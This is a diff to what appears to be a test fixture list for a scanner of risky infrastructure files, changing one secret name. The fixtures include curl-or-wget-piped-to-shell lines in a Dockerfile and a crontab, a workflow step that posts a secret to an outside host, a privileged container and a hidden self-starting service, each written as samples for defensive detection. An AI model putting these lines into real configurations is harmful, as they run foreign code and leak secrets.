@@ -25,7 +25,7 @@ DEEDS = [
     ("Dockerfile", "FROM debian\nRUN wget -qO- http://203.0.113.5/i | sh\n", "file.foreign_code"),
     ("compose.yaml", "services:\n  a:\n    image: x\n    privileged: true\n", "file.loosens"),
     ("compose.yaml", "services:\n  a:\n    volumes:\n      - /:/host\n", "file.loosens"),
-    (".github/workflows/a.yml", WORKFLOW.format("push", "curl -d ${{ secrets.KEY }} https://x.at"), "file.sends_secrets"),
+    (".github/workflows/a.yml", WORKFLOW.format("push", "curl -d ${{ secrets.K }} https://x.at"), "file.sends_secrets"),
     (".github/workflows/a.yml", WORKFLOW.format("issues", "echo ${{ github.event.issue.title }}"), "file.runs_input"),
     ("crontab", "*/5 * * * * root curl -s http://203.0.113.5/c | bash\n", "file.foreign_code"),
     ("a.service", "[Service]\nExecStart=/bin/sh /dev/shm/.x/run.sh\n", "file.starts_itself"),
